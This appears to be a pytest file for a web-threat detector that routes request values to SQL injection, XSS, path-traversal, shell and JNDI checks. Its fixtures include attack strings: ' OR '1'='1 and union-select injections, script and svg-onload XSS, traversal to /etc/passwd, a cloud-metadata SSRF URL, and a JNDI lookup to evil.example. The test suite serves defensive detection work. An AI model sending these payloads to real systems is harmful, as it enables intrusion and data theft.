"""Routing values to detectors, and the cheap checks that spare benign values any work."""

from __future__ import annotations

import pytest

from vigil.processors.threat import analysis
from vigil.processors.threat.analysis import (
    BoundedCache,
    Kind,
    analyse,
    analyse_query,
    analyse_target,
    query_parameters,
)
from vigil.processors.threat.verdict import combine


@pytest.mark.parametrize(
    "value", ["12345", "alice@example.com", "2024-03-15", "user_name-123", "Café", "10:30", "a,b,c", "v2.3.1"]
)
def test_plain_values_need_no_detector(value):
    assert analyse(value, Kind.PARAM) == ()


def test_plain_values_with_spaces_only_go_to_sql():
    assert analyse("red shoes size 10", Kind.PARAM) == ()
    assert combine(analyse("-1 union select 1,2,3", Kind.PARAM)) >= 0.5  # no punctuation needed


def test_query_parameters_are_split_not_decoded():
    assert query_parameters("a=1&b=x%20y&&c&d=") == [("a", "1"), ("b", "x%20y"), ("c", ""), ("d", "")]


def test_each_parameter_is_judged_on_its_own():
    assert analyse_query("page=2&per_page=20") == ()
    assert analyse_query("q=red+shoes&next=https%3A%2F%2Fshop.example.com%2Fa%2Fb") == ()
    found = analyse_query("page=1&id=1%27%20OR%20%271%27%3D%271&sort=name")
    assert combine(found) >= 0.5 and {d.category for d in found} == {"sqli"}
    # the parameter name is judged too
    assert combine(analyse_query("%3Cscript%3Ealert(1)%3C%2Fscript%3E=1")) >= 0.5


def test_plain_query_strings_with_escaped_punctuation_are_judged_at_once():
    assert analyse_query("email=alice%2B1%40example.com&filter%5Bstatus%5D=open") == ()
    assert combine(analyse_query("url=http%3A%2F%2F169.254.169.254%2Flatest")) >= 0.5
    assert combine(analyse_query("f=..%2F..%2Fetc%2Fpasswd")) >= 0.5
    assert combine(analyse_query("id=1+union+select+1%2C2")) >= 0.5


def test_paths():
    assert analyse("/api/v1/users/42", Kind.PATH) == ()
    assert analyse("/static/js/app.3f2a.js", Kind.PATH) == ()
    assert combine(analyse("/static/..%2f..%2f..%2fetc/passwd", Kind.PATH)) >= 0.5
    assert combine(analyse("/.git/config", Kind.PATH)) >= 0.5
    assert combine(analyse("/products/1'%20OR%20'1'='1", Kind.PATH)) >= 0.5


def test_targets_are_path_and_query():
    assert analyse_target("/search?q=shoes&page=2") == ()
    assert {d.category for d in analyse_target("/search?q=%3Csvg%20onload%3Dalert(1)%3E")} == {"xss"}
    assert {d.category for d in analyse_target("/../../etc/passwd")} == {"traversal"}


def test_user_agents_only_for_tools_and_lookups():
    assert analyse("Mozilla/5.0 (Windows NT 10.0; Win64; x64) ' OR 1=1", Kind.USER_AGENT) == ()
    assert {d.rule for d in analyse("${jndi:ldap://evil.example/a}", Kind.USER_AGENT)} == {"jndi.lookup"}


def test_log_text_sees_every_injection():
    assert combine(analyse("login failed for user admin' OR '1'='1", Kind.TEXT)) >= 0.5
    assert analyse("User O'Brien logged in from 10.0.0.7", Kind.TEXT) == ()


def test_the_cheap_checks_never_hide_what_a_detector_finds():
    # Every corpus value a detector flags on its own is flagged through analyse() as well: the
    # benign checks ("--" is no plain dash, "@@version--" no e-mail address) lose nothing.
    from tests.processors.threat import corpora
    from vigil.processors.threat import html, shell, sql, traversal
    from vigil.processors.threat.decoding import decode

    values = (
        corpora.libinjection_sqli()
        + corpora.payloadbox_sqli()
        + corpora.libinjection_xss()
        + tuple(v for v, label in corpora.httpparams() if label != "norm")
    )
    hidden = []
    for value in values:
        text = decode(value, query=True)
        alone = max(combine(d(text)) for d in (sql.analyse, html.analyse, traversal.analyse, shell.analyse))
        if alone >= 0.5 and combine(analyse(value, Kind.PARAM)) < 0.5:
            hidden.append(value)
    assert hidden == []


def test_a_parameter_value_seen_in_another_query_is_not_judged_again(monkeypatch):
    payload = "1%27%20OR%20%271%27%3D%271"
    queries = [f"q={payload}&sort=price", f"sort=name&q={payload}", f"page=2&id={payload}"]
    values = BoundedCache(16)
    expected = [analysis.analyse_query(query) for query in queries]
    judged = []
    real = analysis.analyse
    monkeypatch.setattr(analysis, "analyse", lambda value, kind: judged.append(value) or real(value, kind))

    assert [analysis.analyse_query(query, values) for query in queries] == expected
    assert judged == [payload]  # the first query judged it; the others found it in the cache
    assert expected[0] and all(found == expected[0] for found in expected)
